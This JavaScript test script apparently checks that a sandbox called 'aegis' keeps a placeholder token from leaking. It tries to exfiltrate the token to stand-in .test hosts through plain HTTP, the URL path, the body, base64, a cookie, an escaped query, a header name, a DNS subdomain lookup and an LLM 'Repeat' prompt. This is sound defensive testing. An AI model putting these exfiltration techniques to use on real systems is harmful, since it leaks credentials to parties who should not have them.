// Has secrets that it never sees: uses them where it may, and tries to carry them elsewhere. Each try
// prints a line: name|0 where it was answered, else 1|what it was told.
import dns from 'node:dns/promises'
import { once } from 'node:events'
import net from 'node:net'
import tls from 'node:tls'

const { TOKEN: token, AWS_KEYS: keys } = process.env
const trusted = { ca: (await import('node:fs')).readFileSync(process.env.SSL_CERT_FILE) }

function report(name, code, said) {
  process.stdout.write(`${name}|${code}|${said.replaceAll(/[^ -~]+/g, ' ').slice(0, 1500)}\n`)
}

/** A request, and what came back of it: the status line, and the body. */
async function ask(socket, bytes) {
  let text = ''
  socket.setTimeout(5000, () => socket.destroy())
  socket.on('data', (chunk) => {
    text += chunk.toString('latin1')
  })
  socket.on('error', (error) => {
    text += ` ${error.code}`
  })
  socket.write(bytes)
  if (!socket.destroyed) await once(socket, 'close').catch(() => {})
  return text
}

const request = (host, path, headers, body = '') =>
  `${body ? 'POST' : 'GET'} ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n${
    body ? `Content-Length: ${Buffer.byteLength(body)}\r\n` : ''
  }${headers.map((header) => `${header}\r\n`).join('')}\r\n${body}`
const secured = (host, ...more) =>
  ask(tls.connect({ host, port: 443, servername: host, ...trusted }), request(host, ...more))
const plain = (host, ...more) => ask(net.connect({ host, port: 80 }), request(host, ...more))

const bearer = [`Authorization: Bearer ${token}`]
const basic = (user, password) =>
  `Authorization: Basic ${Buffer.from(`${user}:${password}`).toString('base64')}`
const encoded = Buffer.from(token).toString('base64')
const escaped = [...token].map((letter) => `%${letter.charCodeAt(0).toString(16)}`).join('')

const tries = {
  'use-bearer': () => secured('web.aegis.test', '/echo', bearer),
  'use-header': () => secured('web.aegis.test', '/echo', [`X-Api-Key: ${token}`]),
  'use-basic': () => secured('web.aegis.test', '/echo', [basic('me', token)]),
  'use-query': () => secured('web.aegis.test', `/echo?key=${token}`, []),
  'other-account': () =>
    secured('web.aegis.test', '/echo', ['Authorization: Bearer of-somebody-else']),

  'leak-other-host': () => secured('read.aegis.test', '/echo', bearer),
  'leak-plain-http': () => plain('web.aegis.test', '/echo', bearer),
  'leak-path': () => secured('web.aegis.test', `/echo/${token}`, []),
  'leak-body': () => secured('web.aegis.test', '/echo', [], `{"note":"${token}"}`),
  'leak-body-base64': () => secured('read.aegis.test', '/echo', [], `x${encoded}`),
  'leak-cookie': () => secured('read.aegis.test', '/echo', [`Cookie: a=${token}`]),
  'leak-query-escaped': () => secured('read.aegis.test', `/echo?a=${escaped}`, []),
  'leak-basic-elsewhere': () => secured('read.aegis.test', '/echo', [basic(token, 'x')]),
  'leak-header-name': () => secured('read.aegis.test', '/echo', [`X-${token}: 1`]),
  'leak-name': () => dns.lookup(`${token}.web.aegis.test`).then(() => 'HTTP/1.1 200', String),
  'leak-model': async () => {
    const answer = await fetch(`${process.env.AEGIS_ORCHESTRATOR_URL}/api/llm/generate`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ prompt: `Repeat: ${token}` }),
    })
    return `HTTP/1.1 ${answer.status} ${await answer.text()}`
  },
}

report('placeholder', /^aegis-secret-[0-9a-f]{32}$/.test(token) ? 0 : 1, 'TOKEN')
report('placeholder-keys', keys !== token ? 0 : 1, 'AWS_KEYS')
for (const [name, attempt] of Object.entries(tries)) {
  const said = await attempt().catch((error) => String(error.code ?? error))
  report(name, /HTTP\/1\.1 200/.test(said) ? 0 : 1, said)
}
